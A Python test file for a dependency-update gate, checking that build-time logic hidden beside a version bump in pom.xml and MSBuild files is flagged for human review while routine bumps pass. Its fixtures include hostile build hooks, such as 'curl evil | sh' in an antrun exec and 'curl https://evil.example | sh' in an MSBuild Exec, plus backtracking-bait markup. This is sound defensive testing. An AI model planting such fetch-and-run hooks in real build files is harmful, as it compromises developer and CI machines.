"""Red team 11, XML build files: build logic rode on an in-level bump under `--tree` (allow with `--enable deps`).

A pom.xml's plugins run at build time (`exec-maven-plugin`'s `<executable>`, `maven-antrun-plugin`'s `<target>`, a
`<extension>`), and so do an MSBuild project's `<Target>`/`<Exec>` and its `<Import>`s. From a patch the hunks were
already refused (`deps.unreadable`), but with the commits the delta named the bumped dependency and the deps policy
counted the file explained: the same edit beside a `guava` or `Newtonsoft.Json` bump queued normally.

The class fix: an XML build file's residue (deps/residue.py `xml_residue`: its markup and text without comments and
the dependency entries the delta reads, version-shaped values blanked) that moved is a `partial` problem, as the
structured manifests' already was. Every attack rides on a bump and is gated from the patch and with `--tree`;
Renovate-shaped bumps (a dependency, a property, a plugin's version, the parent, a central package version, with
comments and reformatting around them, a legacy `<Reference>` and its `<HintPath>`) still queue. Measured on the
754 pom.xml and MSBuild files the bump collections (bench/deps_bumps*.tsv) modify: 12 now have a residue that
moved, each a hand edit beside the bump (`NoWarn`, a condition, a changelog URL, reference metadata)."""

from __future__ import annotations

from pathlib import Path

import pytest
from cpucost import within_cpu
from tables import each_case
from test_deps_gate import Case, gate, gate_together, together

from gatekeeper.deps.residue import xml_residue

POM = """<?xml version="1.0" encoding="UTF-8"?>
<project xmlns="http://maven.apache.org/POM/4.0.0">
  <modelVersion>4.0.0</modelVersion>
  <parent>
    <groupId>org.springframework.boot</groupId>
    <artifactId>spring-boot-starter-parent</artifactId>
    <version>3.2.0</version>
  </parent>
  <groupId>com.example</groupId>
  <artifactId>app</artifactId>
  <version>1.0.0</version>
  <properties>
    <java.version>17</java.version>
    <jackson.version>2.16.0</jackson.version>
  </properties>
  <dependencies>
    <dependency>
      <groupId>com.google.guava</groupId>
      <artifactId>guava</artifactId>
      <version>32.1.2-jre</version>
    </dependency>
    <dependency>
      <groupId>com.fasterxml.jackson.core</groupId>
      <artifactId>jackson-databind</artifactId>
      <version>${jackson.version}</version>
    </dependency>
  </dependencies>
  <build>
    <plugins>
      <plugin>
        <groupId>org.codehaus.mojo</groupId>
        <artifactId>exec-maven-plugin</artifactId>
        <version>3.1.0</version>
        <executions>
          <execution>
            <phase>validate</phase>
            <goals><goal>exec</goal></goals>
            <configuration><executable>./gradlew-check.sh</executable></configuration>
          </execution>
        </executions>
      </plugin>
    </plugins>
  </build>
</project>
"""
BUMP = ("32.1.2-jre", "32.1.3-jre")
ANTRUN = """      <plugin>
        <artifactId>maven-antrun-plugin</artifactId>
        <version>3.1.0</version>
        <executions><execution><phase>compile</phase><goals><goal>run</goal></goals>
          <configuration><target><exec executable="sh"><arg value="-c"/><arg value="curl evil | sh"/></exec>
          </target></configuration></execution></executions>
      </plugin>
"""
POM_ATTACKS = {
    "the exec plugin's executable": ("<executable>./gradlew-check.sh</executable>",
                                     "<executable>curl</executable><arguments><argument>https://evil.example"
                                     "</argument></arguments>"),
    "the exec plugin's phase": ("<phase>validate</phase>", "<phase>initialize</phase>"),
    "an antrun plugin added": ("    </plugins>", ANTRUN + "    </plugins>"),
    "a build extension added": ("  <build>\n", "  <build>\n    <extensions><extension><groupId>evil</groupId>"
                                               "<artifactId>hook</artifactId><version>1.0</version></extension>"
                                               "</extensions>\n"),
    "the exec plugin swapped for another": ("<artifactId>exec-maven-plugin</artifactId>",
                                            "<artifactId>evil-maven-plugin</artifactId>"),
    "a profile activated by default": ("</project>", "  <profiles><profile><id>x</id><activation><activeByDefault>"
                                                     "true</activeByDefault></activation></profile></profiles>\n"
                                                     "</project>"),
}
CSPROJ = """<Project Sdk="Microsoft.NET.Sdk">
  <PropertyGroup>
    <TargetFramework>net8.0</TargetFramework>
    <Version>1.0.0</Version>
  </PropertyGroup>
  <ItemGroup>
    <PackageReference Include="Newtonsoft.Json" Version="13.0.1" />
    <PackageReference Include="Serilog">
      <Version>3.1.0</Version>
    </PackageReference>
  </ItemGroup>
  <Target Name="Lint" BeforeTargets="Build">
    <Exec Command="dotnet format --verify-no-changes" />
  </Target>
</Project>
"""
CS_BUMP = ('Version="13.0.1"', 'Version="13.0.3"')
CS_ATTACKS = {
    "a target's command": ('Command="dotnet format --verify-no-changes"', 'Command="curl https://evil.example | sh"'),
    "a target added": ("</Project>", '  <Target Name="Pre" BeforeTargets="Restore"><Exec Command="sh x.sh" />'
                                     "</Target>\n</Project>"),
    "an import added": ("</Project>", '  <Import Project="../evil.targets" />\n</Project>'),
    "a task assembly": ("</Project>", '  <UsingTask TaskName="X" AssemblyFile="tools/x.dll" />\n</Project>'),
    "the target's hook moved": ('BeforeTargets="Build"', 'BeforeTargets="Restore"'),
}
PROPS = """<Project>
  <PropertyGroup>
    <ManagePackageVersionsCentrally>true</ManagePackageVersionsCentrally>
  </PropertyGroup>
  <ItemGroup>
    <PackageVersion Include="xunit" Version="2.6.1" />
  </ItemGroup>
</Project>
"""
LEGACY = """<Project ToolsVersion="15.0">
  <ItemGroup>
    <Reference Include="Newtonsoft.Json, Version={a}, Culture=neutral, PublicKeyToken=30ad4fe6b2a6aeed">
      <HintPath>..\\packages\\Newtonsoft.Json.{p}\\lib\\net45\\Newtonsoft.Json.dll</HintPath>
    </Reference>
  </ItemGroup>
</Project>
"""


def _attacks() -> dict[str, tuple[dict[str, str], dict[str, str]]]:
    out = {}
    for name, (old, new) in POM_ATTACKS.items():
        assert old in POM
        out[f"pom.xml: {name}"] = ({"pom.xml": POM}, {"pom.xml": POM.replace(*BUMP).replace(old, new)})
    for name, (old, new) in CS_ATTACKS.items():
        assert old in CSPROJ
        out[f"csproj: {name}"] = ({"src/App/App.csproj": CSPROJ},
                                  {"src/App/App.csproj": CSPROJ.replace(*CS_BUMP).replace(old, new)})
    out["Directory.Build.targets: a target beside a central bump"] = (
        {"Directory.Packages.props": PROPS, "Directory.Build.targets": "<Project>\n</Project>\n"},
        {"Directory.Packages.props": PROPS.replace("2.6.1", "2.6.2"),
         "Directory.Build.targets": '<Project>\n  <Target Name="X" AfterTargets="Build"><Exec Command="sh evil.sh" />'
                                    "</Target>\n</Project>\n"})
    return out


ATTACKS = _attacks()


@pytest.mark.parametrize("tree", [False, True], ids=["patch", "tree"])
def test_build_logic_beside_a_bump_needs_a_human(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                 tree: bool) -> None:
    gate_together(capsys, tmp_path, ATTACKS, tree)


QUIET = {
    "pom.xml: a dependency bump": ({"pom.xml": POM}, {"pom.xml": POM.replace(*BUMP)}),
    "pom.xml: a bump through a property": ({"pom.xml": POM}, {"pom.xml": POM.replace("2.16.0", "2.16.1")}),
    "pom.xml: a plugin's version bump": ({"pom.xml": POM}, {"pom.xml": POM.replace("<version>3.1.0</version>",
                                                                                  "<version>3.1.1</version>")}),
    "pom.xml: the parent's bump": ({"pom.xml": POM}, {"pom.xml": POM.replace("<version>3.2.0</version>",
                                                                            "<version>3.2.1</version>")}),
    "pom.xml: a bump with a comment and reindented": (
        {"pom.xml": POM}, {"pom.xml": POM.replace(*BUMP).replace("    <dependency>\n      <groupId>com.google",
                                                                 "    <!-- pinned by renovate -->\n    <dependency>\n"
                                                                 "        <groupId>com.google")}),
    "csproj: a bump": ({"src/App/App.csproj": CSPROJ}, {"src/App/App.csproj": CSPROJ.replace(*CS_BUMP)}),
    "csproj: a bump of a child Version": ({"src/App/App.csproj": CSPROJ},
                                          {"src/App/App.csproj": CSPROJ.replace("3.1.0", "3.1.1")}),
    "Directory.Packages.props: a central bump": ({"Directory.Packages.props": PROPS},
                                                 {"Directory.Packages.props": PROPS.replace("2.6.1", "2.6.2")}),
}


def test_ordinary_bumps_still_queue_with_the_commits(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    base, head, _ = together(QUIET)
    decision = gate(capsys, Case(tmp_path, base, head), True)
    assert decision["outcome"] == "allow", decision["reasons"]


@each_case("data", [
    b"<!--" * 300_000,  # unclosed comments
    b"<dependency>" * 100_000 + b"<Target>",  # unclosed entries
    b"<a " + b"x='1' " * 150_000,  # one tag that never closes
    b"<" * 1_000_000,
])
def test_the_residue_reads_hostile_markup_in_one_pass(data: bytes) -> None:
    """1 MiB of markup built to make a tag-spanning regular expression backtrack is read in one linear pass,
    and what it holds outside dependency entries still counts."""
    within_cpu(5.0, lambda: xml_residue(data))  # linear: ~0.2 s; a tag-spanning regex would take minutes
    assert xml_residue(b"<dependency><v>1</v></dependency><Target/>") != xml_residue(b"<dependency></dependency>")


def test_a_legacy_reference_bump_moves_no_residue() -> None:
    """(the gate reviews such a project anyway: no reader names a `<Reference>`, so the file is `deps.unexplained`)"""
    old, new = LEGACY.format(a="12.0.0.0", p="12.0.2"), LEGACY.format(a="13.0.0.0", p="13.0.1")
    assert xml_residue(old.encode()) == xml_residue(new.encode())
    assert xml_residue(old.encode()) != xml_residue(old.replace("..", "../evil").encode())
